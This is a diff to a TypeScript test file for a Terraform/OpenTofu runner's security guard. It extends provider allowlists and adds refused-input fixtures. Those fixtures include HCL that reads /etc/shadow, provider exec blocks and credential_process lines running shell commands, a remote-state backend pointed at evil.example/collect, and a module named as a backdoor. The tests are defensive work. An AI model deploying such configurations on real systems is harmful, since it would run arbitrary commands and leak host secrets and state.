@@ -3,9 +3,18 @@
 
 /** The runner's allowlists in these tests. */
 export const ALLOW = {
-  providers: [{ source: 'hashicorp/aws', versions: '~> 5.0' }, 'cloudflare/cloudflare'],
+  providers: [
+    { source: 'hashicorp/aws', versions: '~> 5.0', arguments: ['region', 'assume_role'] },
+    'cloudflare/cloudflare',
+    { source: 'hashicorp/kubernetes', arguments: ['host'] },
+    { source: 'hashicorp/helm', arguments: ['kubernetes'] },
+  ],
   modules: ['git::https://git.example/infra/*', 'registry.terraform.io/terraform-aws-modules/*/aws'],
+  remoteState: [{ backend: 's3', config: { bucket: 'lab-state', key: 'net/*', region: 'eu-west-1' } }],
 };
+
+const K8S = 'terraform {\n  required_providers {\n    kubernetes = { source = "hashicorp/kubernetes" }\n    helm = { source = "hashicorp/helm" }\n  }\n}\n';
+const AWS = 'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws", version = "~> 5.30" }\n  }\n}\n';
 
 const COMMIT = 'a'.repeat(40);
 
@@ -45,6 +54,27 @@ export const REFUSED: Array<[string, Record<string, string>, string, string, str
   ['unparsable HCL', { 'main.tf': 'resource "x" "y" {\n  a = \n}\n' }, 'parse-error', 'main.tf', undefined],
   ['unparsable JSON', { 'main.tf.json': '{"resource": ' }, 'parse-error', 'main.tf.json', undefined],
   ['.tofu files are guarded too', { 'main.tofu': 'data "external" "x" {\n  program = ["id"]\n}\n' }, 'external-data', 'main.tofu', 'data.external.x'],
+  // issue 11: routes the first guard missed
+  ['templatestring() of a computed template', { 'main.tf': 'locals {\n  t = "x"\n}\noutput "o" {\n  value = templatestring(local.t, {})\n}\n' }, 'file-function', 'main.tf', 'output.o'],
+  ['templatestring() of a literal template that reads the host', { 'main.tf': 'output "o" {\n  value = templatestring("$${file(\\"/etc/shadow\\")}", {})\n}\n' }, 'file-function', 'main.tf', 'output.o (templatestring)'],
+  ['kubernetes provider with an exec block', { 'main.tf': `${K8S}provider "kubernetes" {\n  host = "https://k8s.lab"\n  exec {\n    api_version = "client.authentication.k8s.io/v1beta1"\n    command     = "sh"\n    args        = ["-c", "id"]\n  }\n}\n` }, 'provider-config', 'main.tf', 'provider.kubernetes'],
+  ['kubernetes provider reading a kubeconfig from the repo', { 'main.tf': `${K8S}provider "kubernetes" {\n  config_path = "./kubeconfig"\n}\n`, kubeconfig: 'users:\n- name: u\n  user:\n    exec:\n      command: sh\n' }, 'provider-config', 'main.tf', 'provider.kubernetes'],
+  ['helm provider with exec nested in an allowed block', { 'main.tf': `${K8S}provider "helm" {\n  kubernetes {\n    exec {\n      api_version = "v1"\n      command     = "id"\n    }\n  }\n}\n` }, 'provider-config', 'main.tf', 'provider.helm'],
+  ['aws provider with a profile (credential_process)', { 'main.tf': `${AWS}provider "aws" {\n  region  = "eu-west-1"\n  profile = "evil"\n}\n` }, 'provider-config', 'main.tf', 'provider.aws'],
+  ['aws provider with shared config and credentials files', { 'main.tf': `${AWS}provider "aws" {\n  shared_config_files      = ["./aws.cfg"]\n  shared_credentials_files = ["./aws.creds"]\n}\n`, 'aws.cfg': '[default]\ncredential_process = sh -c id\n' }, 'provider-config', 'main.tf', 'provider.aws'],
+  ['a file path nested in an allowed provider argument', { 'main.tf': `${AWS}provider "aws" {\n  assume_role {\n    role_arn                = "arn:aws:iam::1:role/x"\n    web_identity_token_file = "/var/run/secrets/token"\n  }\n}\n` }, 'provider-config', 'main.tf', 'provider.aws'],
+  ['a provider argument the runner does not list (a CA bundle path)', { 'main.tf': `${AWS}provider "aws" {\n  region           = "eu-west-1"\n  custom_ca_bundle = "./ca.pem"\n}\n` }, 'provider-config', 'main.tf', 'provider.aws'],
+  ['a provider block in JSON syntax with an exec block', { 'main.tf.json': JSON.stringify({ provider: { kubernetes: [{ exec: [{ command: 'id' }] }] } }) }, 'provider-config', 'main.tf.json', 'provider.kubernetes'],
+  ['a terraform test file (init installs what it names)', { 'main.tf': '', 'tests/net.tftest.hcl': 'run "x" {\n  module {\n    source = "evilcorp/backdoor/aws"\n    version = "1.0.0"\n  }\n}\n' }, 'test-file', 'tests/net.tftest.hcl', undefined],
+  ['an OpenTofu test file', { 'main.tf': '', 'x.tofutest.hcl': 'run "x" {}\n' }, 'test-file', 'x.tofutest.hcl', undefined],
+  ['an import block for an unlisted provider', { 'main.tf': 'import {\n  to = google_compute_instance.x\n  id = "projects/p/zones/z/instances/x"\n}\n' }, 'provider-not-allowed', 'main.tf', 'import google_compute_instance.x'],
+  ['an import block naming an unlisted provider configuration', { 'main.tf': `${AWS}import {\n  to       = aws_instance.x\n  provider = evil.a\n  id       = "i-1"\n}\n` }, 'provider-not-allowed', 'main.tf', 'import aws_instance.x'],
+  ['terraform_remote_state with a computed address', { 'main.tf': 'variable "b" {}\ndata "terraform_remote_state" "s" {\n  backend = "s3"\n  config = {\n    bucket = var.b\n    key    = "net/terraform.tfstate"\n  }\n}\n' }, 'remote-state', 'main.tf', 'data.terraform_remote_state.s'],
+  ['terraform_remote_state of a backend the runner does not list', { 'main.tf': 'data "terraform_remote_state" "s" {\n  backend = "http"\n  config = {\n    address = "https://evil.example/collect"\n  }\n}\n' }, 'remote-state', 'main.tf', 'data.terraform_remote_state.s'],
+  ['terraform_remote_state of an unlisted key', { 'main.tf': 'data "terraform_remote_state" "s" {\n  backend = "s3"\n  config = {\n    bucket = "lab-state"\n    key    = "prod/terraform.tfstate"\n  }\n}\n' }, 'remote-state', 'main.tf', 'data.terraform_remote_state.s'],
+  ['file() of the runner\'s backend override', { 'main.tf': 'output "o" {\n  value = file("airlock_backend_override.tf.json")\n}\n' }, 'file-function', 'main.tf', 'output.o'],
+  ['file() of the backend config init records', { 'main.tf': 'output "o" {\n  value = file("${path.module}/.terraform/terraform.tfstate")\n}\n' }, 'file-function', 'main.tf', 'output.o'],
+  ['templatefile() of a template not in the tree', { 'main.tf': 'output "o" {\n  value = templatefile("${path.module}/.later/t.tpl", {})\n}\n' }, 'file-function', 'main.tf', 'output.o'],
   ['terraform_remote_state of a local file', { 'main.tf': 'data "terraform_remote_state" "s" {\n  backend = "local"\n  config = { path = "/var/lib/airlock/state/other.tfstate" }\n}\n' }, 'local-remote-state', 'main.tf', 'data.terraform_remote_state.s'],
 ];
 
